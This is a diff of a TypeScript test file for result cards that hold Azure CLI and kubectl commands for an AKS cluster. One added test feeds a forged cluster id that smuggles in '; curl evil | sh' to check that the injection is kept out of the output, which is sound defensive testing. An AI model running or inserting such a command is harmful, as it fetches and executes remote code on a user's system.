@@ -315,7 +315,7 @@ describe('result card: the AKS cluster\'s side', function () {
       assertValidCard(card);
       assert.ok(richLines(card).some((line) => plain(line).includes(plain(t(lang, 'card.cluster', { detail: '' })).trim()) && line.includes('20.1.2.3')), `${lang}: the cluster line`);
       const [pod] = monospace(card);
-      assert.match(pod!, /^az aks get-credentials --resource-group rg-aks --name aks-prod --overwrite-existing; kubectl --context aks-prod run acr-check-myregistry /, lang);
+      assert.match(pod!, /^az aks get-credentials --subscription 0b1f6471-1bf0-4dda-aec3-111122223333 --resource-group rg-aks --name aks-prod --context acr-check-0b1f6471-rg-aks-aks-prod --overwrite-existing; kubectl --context acr-check-0b1f6471-rg-aks-aks-prod run acr-check-myregistry /, lang);
       assert.equal(rerunData(card).aksCluster, CLUSTER_ID);
     }
   });
@@ -332,6 +332,14 @@ describe('result card: the AKS cluster\'s side', function () {
   it('a resource group with parentheses is quoted for the shell', function () {
     const report = aksReport('en', true);
     const odd = { ...report, facts: { ...report.facts, aks: { ...report.facts.aks!, id: CLUSTER_ID.replace('rg-aks', 'rg(prod)') } } };
-    assert.match(monospace(resultCard(odd, 'bot', SAMPLE_DOWNLOAD))[0]!, /--resource-group 'rg\(prod\)' --name aks-prod/);
+    assert.match(monospace(resultCard(odd, 'bot', SAMPLE_DOWNLOAD))[0]!, /--resource-group 'rg\(prod\)' --name aks-prod --context acr-check-0b1f6471-rg-prod--aks-prod /);
+  });
+
+  it('a cluster id that is not one (an uploaded report\'s facts) gives no cluster to run in, nor to re-run', function () {
+    const report = aksReport('en', true);
+    const forged = { ...report, facts: { ...report.facts, aks: { ...report.facts.aks!, id: `${CLUSTER_ID}; curl evil | sh` } } };
+    const card = resultCard(forged, 'bot', SAMPLE_DOWNLOAD);
+    assert.match(monospace(card)[0]!, /^kubectl run /);
+    assert.ok(!JSON.stringify(card).includes('curl evil'), 'nothing of it pasted');
   });
 });
